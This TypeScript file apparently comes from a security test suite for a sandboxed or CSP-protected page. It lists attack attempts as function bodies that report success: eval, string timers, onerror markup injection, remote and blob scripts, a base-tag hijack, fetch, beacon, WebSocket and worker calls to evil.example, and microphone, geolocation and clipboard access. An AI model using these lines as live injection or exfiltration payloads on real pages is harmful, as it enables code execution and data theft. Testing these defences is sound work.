/** What a page that was taken over tries, as bodies of functions that answer whether it got what it wanted. */
export const pageAttacks: Readonly<Record<string, string>> = {
  eval: 'return eval("1") === 1',
  'a function made from text': 'return new Function("return 1")() === 1',
  'a timer made from text':
    'globalThis.hit = 0; setTimeout("globalThis.hit = 1"); await new Promise((r) => setTimeout(r, 50)); return globalThis.hit === 1',
  'markup with a handler':
    'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\'globalThis.hit = 2\'>"); await new Promise((r) => setTimeout(r, 80)); return globalThis.hit === 2',
  'markup through innerHTML': 'const d = document.createElement("div"); d.innerHTML = "<b>x</b>"; return d.childElementCount === 1',
  'a script element with text':
    'const s = document.createElement("script"); s.textContent = "globalThis.hit = 3"; document.body.append(s); return globalThis.hit === 3',
  'a script from elsewhere':
    'const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s); return s.src !== ""',
  'a script from a blob':
    'const s = document.createElement("script"); s.src = URL.createObjectURL(new Blob(["globalThis.hit = 4"])); document.body.append(s); await new Promise((r) => setTimeout(r, 80)); return globalThis.hit === 4',
  'a second policy for trusted types': 'trustedTypes.createPolicy("mine", { createHTML: (x) => x }); return true',
  'a base for addresses':
    'const b = document.createElement("base"); b.href = "https://evil.example/"; document.head.append(b); return document.baseURI.startsWith("https://evil")',
  'an object':
    'const o = document.createElement("object"); o.data = "https://evil.example/"; document.body.append(o); await new Promise((r) => setTimeout(r, 80)); return o.contentDocument !== null',
  'a webview': 'const v = document.createElement("webview"); document.body.append(v); return typeof v.executeJavaScript === "function"',
  'a service worker': 'return Boolean(await navigator.serviceWorker.register("/review"))',
  'a worker from elsewhere': 'new Worker("https://evil.example/w.js"); return true',
  'a request to elsewhere': 'return (await fetch("https://evil.example/", { mode: "no-cors" })) !== null',
  'a beacon to elsewhere':
    'const n = performance.getEntriesByType("resource").length; navigator.sendBeacon("https://evil.example/", "x"); await new Promise((r) => setTimeout(r, 80)); return performance.getEntriesByType("resource").length > n && false',
  'a picture from elsewhere':
    'return await new Promise((done) => { const i = new Image(); i.onload = () => done(true); i.onerror = () => done(false); i.src = "https://evil.example/x.png" })',
  'a socket to elsewhere':
    'return await new Promise((done) => { const s = new WebSocket("wss://evil.example/"); s.onopen = () => done(true); s.onerror = () => done(false) })',
  'the microphone': 'return Boolean(await navigator.mediaDevices.getUserMedia({ audio: true }))',
  'the place of the computer':
    'return await new Promise((done) => navigator.geolocation.getCurrentPosition(() => done(true), () => done(false)))',
  'what was copied elsewhere': 'return typeof (await navigator.clipboard.readText()) === "string"',
  'a notification of its own': 'return (await Notification.requestPermission()) === "granted"',
}
